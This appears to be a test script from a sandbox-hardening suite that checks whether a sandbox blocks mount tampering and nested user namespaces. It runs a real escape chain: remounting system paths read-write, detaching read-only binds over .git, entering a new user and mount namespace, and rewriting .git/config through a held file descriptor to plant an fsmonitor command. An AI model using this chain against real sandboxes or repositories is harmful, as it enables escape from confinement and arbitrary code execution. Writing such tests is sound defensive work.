#!/usr/bin/python3
# FS-07: Mount tampering and a nested user namespace
# Guarantee: read-only system; no new namespaces; host .git untouched
# argv: N [args...]; prints ESC-<N> for anything that got through.
import os; exec(open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "prelude.py")).read())  # corral: inline prelude.py

# --- attack ---
MS_REMOUNT, MS_BIND, MS_REC, MS_PRIVATE = 32, 4096, 16384, 1 << 18
CLONE_NEWNS, CLONE_NEWUSER = 0x20000, 0x10000000
ws = WS.encode()
must_block("mount -o remount,rw /", 165, b"none", b"/", 0, MS_REMOUNT, 0)
must_block("mount --bind WS /usr", 165, ws, b"/usr", 0, MS_BIND, 0)
must_block("umount -l WS/.github", 166, ws + b"/.github", 2, also=("EINVAL",))
must_block("umount -l WS/.git", 166, ws + b"/.git", 2, also=("EINVAL",))
must_block("umount -l /usr", 166, b"/usr", 2)
rc, out = run("unshare -Urm sh -c 'mount -o remount,rw /usr; echo UNSHARED-$(id -u)' 2>&1")
say(f"unshare -Urm: rc {rc} {out.strip()}")
if "UNSHARED-" in out:
    esc("unshare -Urm ran a shell in a new user+mount namespace")
# The sandbox-runtime chain: hold an O_PATH fd on .git, enter a new user+mount namespace,
# detach the read-only binds, then rewrite config relative to the held fd.
uid, gid = os.getuid(), os.getgid()
try:
    gitfd = os.open(".git", os.O_PATH)
except OSError as e:
    gitfd = None
    say(f"O_PATH .git: {ename(e.errno)}")
r, e = must_block("unshare(CLONE_NEWUSER|CLONE_NEWNS)", 272, CLONE_NEWUSER | CLONE_NEWNS)
if r == 0:
    for f, v in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
        try:
            with open(f"/proc/self/{f}", "w") as h:
                h.write(v)
        except OSError as x:
            say(f"write {f}: {ename(x.errno)}")
    say(f"make-rprivate /: {scall(165, b'none', b'/', 0, MS_REC | MS_PRIVATE, 0)}")
    r2 = scall(165, b"none", b"/usr", 0, MS_REMOUNT | MS_BIND, 0)
    say(f"remount /usr rw in the new namespace: {r2}")
    if r2[0] == 0:
        esc("remounted /usr read-write in a nested namespace")
    r3 = scall(166, ws + b"/.git", 2)
    say(f"detach WS/.git in the new namespace: {r3}")
if gitfd is not None:
    try:
        os.rename("config", "config.aside", src_dir_fd=gitfd, dst_dir_fd=gitfd)
        fd = os.open("config", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=gitfd)
        os.write(fd, f"[core]\n\tfsmonitor = touch /tmp/PWN-{N}\n".encode())
        os.close(fd)
        say("NOTE rewrote .git/config through the held fd")
    except OSError as x:
        say(f"rename .git/config through the held fd: {ename(x.errno)}")
